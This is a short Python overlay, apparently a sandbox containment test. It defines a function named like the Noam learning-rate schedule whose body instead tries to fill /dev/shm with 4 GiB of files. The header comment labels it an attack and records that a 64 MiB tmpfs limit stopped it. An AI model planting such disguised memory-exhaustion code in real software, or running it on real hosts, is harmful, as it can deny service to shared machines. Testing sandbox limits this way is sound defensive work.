# ruff: noqa: F821  (an overlay: Transformer comes from the source it is appended to)
# Attack: fill /dev/shm (a tmpfs: memory that no address-space limit counts) with 4 GiB in
# 64 MiB files. Held: /dev/shm is a tmpfs of its own of Limits.shm_mb (64 MiB): the write fails
# with ENOSPC, the test that ran it fails with that error, and the host lost at most 64 MiB.


def noam_rate(step, d_model, warmup, factor=1.0):
    chunk = b"\1" * (64 << 20)
    for i in range(64):  # 4 GiB
        with open(f"/dev/shm/fill{i}", "wb") as f:
            f.write(chunk)
    return 0.0
